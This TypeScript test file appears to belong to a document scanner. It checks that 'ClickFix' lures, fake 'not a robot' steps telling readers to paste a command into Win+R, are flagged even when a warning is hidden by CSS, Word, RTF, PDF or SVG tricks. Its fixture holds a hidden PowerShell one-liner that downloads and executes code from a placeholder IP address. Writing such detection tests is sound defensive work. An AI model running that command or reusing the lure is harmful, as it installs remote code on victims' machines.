/** A warning that no reader sees does not excuse a document that makes its reader paste a command. */
import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { page, pdf, wordDocument } from '#inspect/testing/hidden-texts.ts'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()

const STEPS =
  '<p>Confirm that you are not a robot:</p><ol><li>Press <b>Win + R</b></li><li>Paste (Ctrl + V) the line</li></ol>'
const COMMAND = 'cmd /c start /min powershell -w hidden -c "iwr http://192.0.2.66/k|iex"'
const LURE = `${STEPS}<pre>${COMMAND}</pre>`
const WARNING = 'Attackers ask their victims to paste this. Never paste such a command.'
const TEXT = ['Confirm that you are not a robot:', 'Press Win + R.', 'Paste (Ctrl + V) the line:', COMMAND]

const found = (bytes: Buffer): boolean => inspect(bytes).findings.some(({ id }) => id === 'Docvet.Html.ClickFix')
const drawing = (content: string): Buffer =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 900 900">${content}</svg>`)
const lines = (start = 200): string =>
  TEXT.map((line, i) => `<text x="9" y="${start + i * 30}">${line}</text>`).join('')

const styled = (style: string, element = 'div'): string => `<${element} style="${style}">${WARNING}</${element}>`
const around = (before: string, after: string): Buffer => page(`${before}${WARNING}${after}${LURE}`)

const HIDDEN_IN_PAGES: Record<string, Buffer> = {
  'no warning': page(LURE),
  'display: none': page(styled('display:none') + LURE),
  'a class that is not displayed': page(`<style>.a{display:none}</style><p class="a">${WARNING}</p>${LURE}`),
  'visibility: hidden': page(styled('visibility:hidden') + LURE),
  'no opacity': page(styled('opacity:0') + LURE),
  'white on white': page(styled('color:#fff') + LURE),
  'white with styles of another file': page(`<link rel="stylesheet" href="a.css">${styled('color:white')}${LURE}`),
  'white on a gradient': page(`<body style="background:linear-gradient(#fff,#fff)">${styled('color:#fff')}${LURE}`),
  'a place outside of the page': page(styled('position:absolute;left:-9999px') + LURE),
  'a place behind others': page(styled('position:absolute;z-index:-1') + LURE),
  'letters without a size': page(styled('font-size:0') + LURE),
  'the attribute hidden': around('<p hidden>', '</p>'),
  'aria-hidden': around('<p aria-hidden="true">', '</p>'),
  'a template': around('<template>', '</template>'),
  noscript: around('<noscript>', '</noscript>'),
  'a closed dialog': around('<dialog>', '</dialog>'),
  'closed details': around('<details><summary>More</summary>', '</details>'),
  'the other content of a film': around('<video src="a.mp4">', '</video>'),
  'a comment': around('<!--', '-->'),
  attributes: around('<p title="', '">Hello</p>'),
  'a hidden field': around('<input type="hidden" value="', '">'),
  'the title of the page': Buffer.from(`<html><head><title>${WARNING}</title></head><body>${LURE}</body></html>`),
  'the middle of the steps': page(LURE.replace('<ol>', `<ol><li hidden>${WARNING}</li>`)),
  'the same place as other keys': page(`<div hidden>${STEPS}${WARNING}</div>${LURE}`),
  'a dialog that a script opens': page(`<div style="display:none">${styled('font-size:0', 'span')}${LURE}</div>`),
  'a part that is shown in one that is not': page(
    `<div style="visibility:hidden">${WARNING}<div style="visibility:visible">${LURE}</div></div>`,
  ),
}

const mail = (html: string): Buffer =>
  Buffer.from(`From: a@example.com\r\nTo: b@example.org\r\nSubject: a\r\nContent-Type: text/html\r\n\r\n${html}`)
const runs = (first: string): string =>
  [first, ...TEXT.map((text) => `<w:p><w:r><w:t>${text.replaceAll('"', '&quot;')}</w:t></w:r></w:p>`)].join('')
const run = (properties: string): string => `<w:p><w:r><w:rPr>${properties}</w:rPr><w:t>${WARNING}</w:t></w:r></w:p>`
const rtf = (first: string): Buffer =>
  Buffer.from(String.raw`{\rtf1\ansi{\colortbl;\red255\green255\blue255;}${first}${TEXT.join(String.raw`\par `)}\par}`)
const shown = (text: string, y: number): string =>
  `1 0 0 1 72 ${y} Tm (${text.replace(/[()\\]/g, String.raw`\$&`)}) Tj `
const pages = (first: string): Buffer =>
  pdf({ content: `BT /F1 12 Tf ${first} ${TEXT.map((text, i) => shown(text, 600 - i * 20)).join('')} ET` })
const note = (first: string): Buffer => Buffer.from(`# Check\n\n${first}\n\n${TEXT.join('\n\n')}\n`)

const HIDDEN_ELSEWHERE: Record<string, Buffer> = {
  'a page in a mail': mail(`<html><body>${styled('display:none')}${LURE}</body></html>`),
  'a drawing, as a description': drawing(`<desc>${WARNING}</desc>${lines()}`),
  'a drawing, outside of it': drawing(`<text x="-5000" y="9">${WARNING}</text>${lines()}`),
  'a Word document without a warning': wordDocument(runs('')),
  'hidden text of a Word document': wordDocument(runs(run('<w:vanish/>'))),
  'white text of a Word document': wordDocument(runs(run('<w:color w:val="FFFFFF"/>'))),
  'hidden text of an RTF document': rtf(String.raw`{\v ${WARNING}\par}`),
  'white text of an RTF document': rtf(String.raw`{\cf1 ${WARNING}\par}`),
  'a PDF without a warning': pages(''),
  'text of a PDF that is not drawn': pages(`3 Tr ${shown(WARNING, 700)} 0 Tr`),
  'white text of a PDF': pages(`1 g ${shown(WARNING, 700)} 0 g`),
}

const SEEN: Record<string, Buffer> = {
  'a page': page(`<h1>A new attack</h1><p>${WARNING}</p>${LURE}`),
  'a page, after the command': page(`${LURE}<p class="note" style="background:#fee;color:#900">${WARNING}</p>`),
  'a page that a script shows as a whole': page(`<div style="display:none"><p>${WARNING}</p>${LURE}</div>`),
  'a page with light text on a dark picture': page(
    `<div style="color:#fff;background:url(a.png)"><p>${WARNING}</p>${LURE}</div>`,
  ),
  'a page in words that are parted': page(`<p>Att<b>ackers</b> ask their <i>vict</i>ims</p>${LURE}`),
  'a page that hides something else': page(`<nav hidden>Menu</nav><p>${WARNING}</p>${LURE}`),
  'a mail': mail(`<html><body><p>${WARNING}</p>${LURE}</body></html>`),
  'a drawing': drawing(`<text x="9" y="30">${WARNING}</text>${lines()}`),
  'a Word document': wordDocument(runs(run('') + run('<w:vanish/>'))),
  'an RTF document': rtf(String.raw`{\v hidden}${WARNING}\par `),
  'a PDF': pages(`3 Tr ${shown('hidden', 700)} 0 Tr ${shown(WARNING, 680)}`),
  'a note': note(WARNING),
}

suite('a warning that readers do not see', () => {
  for (const [where, bytes] of Object.entries({ ...HIDDEN_IN_PAGES, ...HIDDEN_ELSEWHERE }))
    test(where, () => assert.equal(found(bytes), true))

  test('a comment or a definition of a note', () => {
    for (const hidden of [`<!-- ${WARNING} -->`, `[//]: # (${WARNING})`]) {
      const { findings } = inspect(note(hidden), { name: 'check.md' })
      assert.equal(
        findings.some(({ id }) => id === 'Docvet.Html.ClickFix'),
        true,
        hidden,
      )
    }
  })
})

test('what hides a warning is compared within the limit on work', () => {
  const hidden = (count: number): Buffer =>
    page(`${'<div hidden>'.repeat(400)}${'win+r<b hidden>a</b>'.repeat(count)}${WARNING}${LURE}`)
  assert.equal(inspect(hidden(500)).obstacle, null)
  assert.equal(inspect(hidden(5_000)).obstacle?.reason, 'too_complex')
})

suite('a warning that readers see', () => {
  for (const [where, bytes] of Object.entries(SEEN)) test(where, () => assert.equal(found(bytes), false))
})
